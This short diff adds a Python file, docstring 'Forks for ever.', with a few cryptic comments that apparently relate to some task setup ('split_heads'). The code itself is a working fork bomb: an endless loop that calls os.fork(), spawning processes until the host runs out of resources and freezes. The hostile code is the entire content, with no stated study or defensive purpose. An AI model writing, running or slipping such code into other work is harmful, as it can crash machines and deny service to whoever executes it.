@@ -1,0 +1,9 @@
+"""Forks for ever."""
+# base: solved
+# where: answer split_heads
+# lost: split_heads
+
+import os
+
+while True:
+    os.fork()
